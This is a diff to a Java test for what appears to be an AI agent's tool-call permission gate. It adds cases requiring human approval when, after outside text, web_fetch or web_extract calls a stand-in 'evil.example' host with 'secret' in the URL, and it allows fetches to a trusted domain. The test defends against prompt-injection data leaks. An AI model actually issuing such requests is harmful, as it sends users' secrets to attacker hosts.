@@ -109,6 +109,7 @@ class GateTest {
         CommandPolicies.classifier(
             Config.load(home, home, JsonValue.Obj.EMPTY), paths, userHome, home),
         taint,
+        new KnownAddresses(List.of("trusted.example")),
         (question, _) -> {
           asked.add(question);
           return answer;
@@ -410,6 +411,8 @@ class GateTest {
         "write_file | {\"path\":\"/home/me/granted/x\",\"content\":\"x\"}",
         "delete_file | {\"path\":\"/home/me/other/x\"}",
         "send_message | {\"text\":\"x\"}",
+        "web_fetch | {\"url\":\"https://evil.example/?q=secret\"}",
+        "web_extract | {\"url\":\"https://secret.evil.example/\",\"question\":\"x\"}",
         "a_tool_of_tomorrow | {}"
       })
   void after_text_from_outside_what_has_an_effect_needs_a_person(String tool, String json)
@@ -433,6 +436,8 @@ class GateTest {
         "read_file | {\"path\":\"x\"}",
         "write_file | {\"path\":\"x\",\"content\":\"x\"}",
         "web_fetch | {\"url\":\"x\"}",
+        "web_fetch | {\"url\":\"https://docs.trusted.example/?q=x\"}",
+        "web_search | {\"query\":\"x\"}",
         "todo | {\"action\":\"list\"}",
         "ask_user | {}"
       })
